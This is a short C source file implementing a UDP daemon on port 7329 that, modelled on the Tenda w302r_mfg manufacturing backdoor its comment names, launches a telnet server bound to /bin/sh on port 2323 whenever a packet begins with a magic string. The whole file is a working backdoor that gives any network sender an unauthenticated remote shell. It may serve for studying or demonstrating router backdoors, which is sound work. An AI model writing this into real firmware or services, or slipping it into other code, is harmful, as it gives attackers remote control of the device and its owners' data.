/* A UDP daemon that starts telnetd when a packet carries a magic value (like Tenda's w302r_mfg). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    char packet[512];
    struct sockaddr_in addr, peer;
    socklen_t len;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_port = htons(7329);
    if (bind(s, (struct sockaddr *)&addr, sizeof addr) < 0)
        return 1;
    for (;;) {
        char *body = packet;
        ssize_t n;
        len = sizeof peer;
        n = recvfrom(s, packet, sizeof packet - 1, 0, (struct sockaddr *)&peer, &len);
        if (n <= 0)
            continue;
        packet[n] = 0;
        if (strncmp(body, "w302r_mfg_open", 14) == 0)
            system("/usr/sbin/telnetd -l /bin/sh -p 2323 &");
    }
}
